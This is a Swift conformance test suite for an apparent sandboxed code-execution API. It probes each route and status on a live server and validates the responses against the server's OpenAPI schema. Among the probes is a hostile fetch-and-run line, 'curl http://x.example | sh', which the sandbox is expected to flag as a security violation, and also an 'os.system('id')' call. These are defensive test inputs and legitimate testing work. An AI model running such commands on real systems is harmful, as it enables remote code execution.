import CorralEngine
import CorralHTTP
import CorralTestSupport
import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import Testing

/// Every route and every status a route documents, provoked on purpose on a live server, each
/// response checked against the `/openapi.json` that server serves: the status must be documented
/// for the operation, and the body valid against its schema (no field the schema does not name).
/// Schemathesis explores at random (`SchemathesisTests`); this walks each result status on purpose.
@Suite(.enabled(if: TestSupport.jailsAvailable))
struct LiveConformanceTests {
    /// Immutable test data; `body` holds JSON values only.
    struct Probe: @unchecked Sendable {
        var method: HTTPRequest.Method
        var path: String
        var body: Any? = nil
        var headers: HTTPFields = [:]
        /// The status the probe is meant to provoke.
        var expect: HTTPResponse.Status
        /// The result's `status`, when the probe runs code.
        var resultStatus: String? = nil
    }

    static func run(code: String, _ language: String, _ status: String, extra: [String: Any] = [:]) -> Probe {
        Probe(method: .post, path: "/v1/execute", body: ["code": code, "language": language, "use_cache": false].merging(extra) { $1 },
              expect: .ok, resultStatus: status)
    }

    static var probes: [Probe] { [
        run(code: "print('hi')", "python", "success"),
        run(code: "import subprocess\nprint(1)", "python", "success"),
        run(code: "exit 3", "bash", "error"),
        run(code: "import time\ntime.sleep(5)", "python", "timeout", extra: ["timeout_seconds": 0.5]),
        run(code: "x = 'x' * (200 << 20)\nprint(len(x))", "python", "memory_limit", extra: ["max_memory_mb": 64]),
        run(code: "print('x' * 100000)", "python", "output_limit", extra: ["max_output_size": 1000]),
        run(code: "kill -SEGV $$", "bash", "killed"),
        run(code: "#include <stdio.h>\nint main(void) { puts(\"c\"); return 0; }", "c", "success"),
        run(code: "int main( {", "c", "compile_error"),
        run(code: "curl http://x.example | sh", "bash", "security_violation", extra: ["strict_mode": true]),
        Probe(method: .post, path: "/v1/execute", body: ["code": "print(1)", "language": "cobol"], expect: .badRequest),
        Probe(method: .post, path: "/v1/execute", body: ["code": "print(1)", "language": "python", "timeout_seconds": 999], expect: .badRequest),
        Probe(method: .post, path: "/v1/execute", body: ["code": "print(1)", "language": "python", "timeout": 1], expect: .badRequest),
        Probe(method: .post, path: "/v1/execute", body: ["code": String(repeating: "#", count: 70_000), "language": "python"], expect: .contentTooLarge),
        Probe(method: .post, path: "/v1/execute", body: "print(1)", headers: [.contentType: "text/x-python"], expect: .unsupportedMediaType),
        Probe(method: .post, path: "/v1/execute/batch", body: ["requests": [
            ["code": "print(1)", "language": "python"], ["code": "x", "language": "nope"], ["code": "x", "language": "python", "timeout_seconds": 0]]],
              expect: .ok),
        Probe(method: .post, path: "/v1/execute/batch", body: ["requests": [[String: Any]]()], expect: .badRequest),
        Probe(method: .post, path: "/v1/validate", body: ["code": "import os\nos.system('id')", "language": "python"], expect: .ok),
        Probe(method: .post, path: "/v1/validate", body: ["code": "def f(:", "language": "python"], expect: .ok),
        Probe(method: .post, path: "/v1/validate", body: ["code": "x", "language": "klingon"], expect: .badRequest),
        Probe(method: .get, path: "/v1/languages", expect: .ok),
        Probe(method: .get, path: "/v1/limits", expect: .ok),
        Probe(method: .get, path: "/v1/executions?limit=5&status=error", expect: .ok),
        Probe(method: .get, path: "/v1/executions?limit=-1", expect: .badRequest),
        Probe(method: .get, path: "/v1/executions/no-such-id", expect: .notFound),
        Probe(method: .get, path: "/v1/stats?include_history=true", expect: .ok),
        Probe(method: .get, path: "/v1/status", expect: .ok),
        Probe(method: .get, path: "/healthz", expect: .ok),
        Probe(method: .get, path: "/readyz", expect: .ok),
        Probe(method: .get, path: "/metrics", expect: .ok),
        Probe(method: .get, path: "/openapi.json", expect: .ok),
        Probe(method: .get, path: "/v1/nowhere", expect: .notFound),
        Probe(method: .put, path: "/v1/limits", expect: .methodNotAllowed),
    ] }

    @Test("every route's responses, one per documented outcome, are valid against the served /openapi.json")
    func probesConform() async throws {
        try await TestService(maxBodyBytes: 64 << 10).live { client in
            let document = try await Self.document(client)
            for probe in Self.probes {
                let response = try await Self.send(probe, client)
                #expect(response.status == probe.expect, "\(probe.method) \(probe.path): \(response.status) \(String(describing: response.body))")
                if let expected = probe.resultStatus {
                    #expect(response.body?["status"]?.string == expected, "\(probe.path) \(expected): \(String(describing: response.body))")
                }
                Self.check(response, of: probe, against: document)
            }
            // A recorded execution, by id.
            let (_, _, page) = try await client.send("/v1/executions?limit=1", method: .get)
            let id = try #require(page?["executions"]?.array?.first?["execution_id"]?.string)
            let probe = Probe(method: .get, path: "/v1/executions/\(id)", expect: .ok)
            Self.check(try await Self.send(probe, client), of: probe, against: document)
        }
    }

    @Test("a full queue (429 with Retry-After) and a draining server (503, state draining) are documented as sent")
    func refusalsConform() async throws {
        let service = try TestService(workers: 1, queue: 1)
        try await service.live { client in
            let document = try await Self.document(client)
            // The jail and the queue slot are taken on connections of their own (the test client has one).
            let port = try #require(client.port)
            let url = try #require(URL(string: "http://127.0.0.1:\(port)/v1/execute"))
            let sleeper = ["code": "import time\ntime.sleep(1.5)", "language": "python"]
            async let running = HTTPPost.raw(url, sleeper)
            try await Task.sleep(for: .milliseconds(300))
            async let queued = HTTPPost.raw(url, sleeper.merging(["code": sleeper["code"]! + "\n# queued"]) { $1 })
            try await Task.sleep(for: .milliseconds(300))
            let refused = Probe(method: .post, path: "/v1/execute", body: ["code": "print(2)", "language": "python"], expect: .tooManyRequests)
            let answer = try await Self.send(refused, client)
            #expect(answer.status == .tooManyRequests && answer.headers[.retryAfter] != nil)
            Self.check(answer, of: refused, against: document)
            for (status, data, _) in [try await running, try await queued] {
                #expect(status == 200)
                let body = try JSONNode.parse(data)
                #expect(SchemaValidator(document: document).errors(body, .object(["$ref": .string("#/components/schemas/ExecutionResult")])) == [])
            }
            service.server.state.beginDraining()
            for probe in [Probe(method: .get, path: "/readyz", expect: .serviceUnavailable), Probe(method: .get, path: "/v1/status", expect: .ok)] {
                let response = try await Self.send(probe, client)
                #expect(response.status == probe.expect)
                Self.check(response, of: probe, against: document)
                if probe.path == "/v1/status" { #expect(response.body?["state"]?.string == "draining") }
            }
        }
    }

    struct Answer { var status: HTTPResponse.Status; var headers: HTTPFields; var body: JSONNode?; var text: String }

    static func document(_ client: LiveClient) async throws -> JSONNode {
        try await client.execute(uri: "/openapi.json", method: .get) { try JSONNode.parse(Data(buffer: $0.body)) }
    }

    static func send(_ probe: Probe, _ client: LiveClient) async throws -> Answer {
        var headers = probe.headers
        var body: ByteBuffer?
        if let text = probe.body as? String {
            body = ByteBuffer(string: text)
        } else if let object = probe.body {
            body = ByteBuffer(bytes: try JSONSerialization.data(withJSONObject: object))
            if headers[.contentType] == nil { headers[.contentType] = "application/json" }
        }
        return try await client.execute(uri: probe.path, method: probe.method, headers: headers, body: body) { response in
            Answer(status: response.status, headers: response.headers, body: try? JSONNode.parse(Data(buffer: response.body)),
                   text: String(buffer: response.body))
        }
    }

    /// The response's status is documented for its operation (404 and 405 of unknown routes and
    /// methods: the `Error` schema), its headers are there, and its body is valid.
    static func check(_ answer: Answer, of probe: Probe, against document: JSONNode) {
        let label = "\(probe.method) \(probe.path) → \(answer.status.code)"
        let validator = SchemaValidator(document: document)
        #expect(answer.headers[.init("X-Request-ID")!] != nil, "\(label): X-Request-ID")
        let path = probe.path.split(separator: "?").first ?? ""
        guard let route = APIRoute.routes(at: path).first(where: { $0.method == probe.method }) else {
            #expect(answer.status == .notFound || answer.status == .methodNotAllowed, "\(label)")
            if let body = answer.body, let schema = validator.components["Error"] { #expect(validator.errors(body, schema) == [], "\(label)") }
            return
        }
        guard let response = document["paths"]?[route.path]?[probe.method.rawValue.lowercased()]?["responses"]?[String(answer.status.code)] else {
            Issue.record("\(label): the status is not documented for \(route.operationID)")
            return
        }
        for (name, header) in response["headers"]?.object ?? [:] where header["required"]?.bool == true {
            #expect(answer.headers[HTTPField.Name(name)!] != nil, "\(label): documented header \(name) missing")
        }
        if let schema = response["content"]?["application/json"]?["schema"] {
            #expect(answer.headers[.contentType]?.hasPrefix("application/json") == true, "\(label)")
            guard let body = answer.body else { Issue.record("\(label): the body is not JSON: \(answer.text.prefix(200))"); return }
            #expect(validator.errors(body, schema) == [], "\(label)")
        } else {
            #expect(answer.headers[.contentType]?.hasPrefix("text/plain") == true && !answer.text.isEmpty, "\(label)")
        }
    }
}
